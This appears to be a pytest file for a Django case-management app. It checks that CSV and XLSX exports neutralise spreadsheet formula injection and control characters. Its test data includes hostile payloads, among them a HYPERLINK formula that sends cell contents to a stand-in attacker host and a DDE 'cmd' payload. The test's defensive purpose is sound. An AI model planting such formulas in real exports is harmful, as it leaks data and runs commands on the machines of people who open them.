"""Exports open safely in a spreadsheet program: text that starts like a formula stays text,
and a control character stored before the text check existed does not break the XLSX."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from redress.api.services import api_token_issue
from redress.cases.models import Case, CaseEvent, Category
from redress.cases.testing import submit_case
from redress.orgs.testing import Cast

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "控制\x01字符",
]


def _hostile_cases(cast: Cast) -> None:
    for title in HOSTILE_TITLES:
        case = submit_case(jurisdiction=cast.village_a)
        # Through the ORM, as data stored before the doors checked it would be.
        Case.objects.filter(pk=case.pk).update(title=title, description=title)
        CaseEvent.objects.filter(case=case).update(note=title)
    Category.objects.filter(code="wage-arrears").update(name_zh="=1+2")


def _body(response: Any) -> bytes:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _assert_xlsx_safe(data: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                values.append(cell.value)
    return values


def _assert_csv_safe(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            # A number (-3, a longitude) is written as one and is no formula.
            if not re.fullmatch(r"-?\d+(\.\d+)?", value):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert "\x01" not in value
    return rows


@pytest.mark.parametrize("kind", ["cases", "timelines", "statistics"])
@pytest.mark.parametrize("door", ["page", "api"])
def test_exports_neutralise_formulas_and_control_characters(
    client: Client, cast: Cast, kind: str, door: str
) -> None:
    _hostile_cases(cast)
    query = "?description=1&notes=1"
    if door == "page":
        client.force_login(cast.county_director)
        get = lambda fmt: client.get(reverse("dataio:export", args=[kind, fmt]) + query)  # noqa: E731
    else:
        token = api_token_issue(user=cast.county_director, name="tests")[1]
        get = lambda fmt: client.get(  # noqa: E731
            f"/api/v1/exports/{kind}.{fmt}{query}", headers={"Authorization": f"Bearer {token}"}
        )
    xlsx = get("xlsx")
    assert xlsx.status_code == 200
    values = _assert_xlsx_safe(_body(xlsx))
    text = get("csv")
    assert text.status_code == 200
    rows = _assert_csv_safe(_body(text))
    expected = "'=1+2" if kind == "statistics" else "'" + HOSTILE_TITLES[0]
    assert expected in values and any(expected in row for row in rows)
    if kind == "cases":
        assert "控制\ufffd字符" in values and any("控制\ufffd字符" in row for row in rows)


def test_the_problem_report_of_an_import_is_safe_too(cast: Cast) -> None:
    from redress.core.spreadsheet import csv_stream

    data = "".join(csv_stream([["=1", 2, -3, None, "ok", "-", "\x00"]])).encode()
    assert _assert_csv_safe(data) == [["'=1", "2", "-3", "", "ok", "'-", "\ufffd"]]
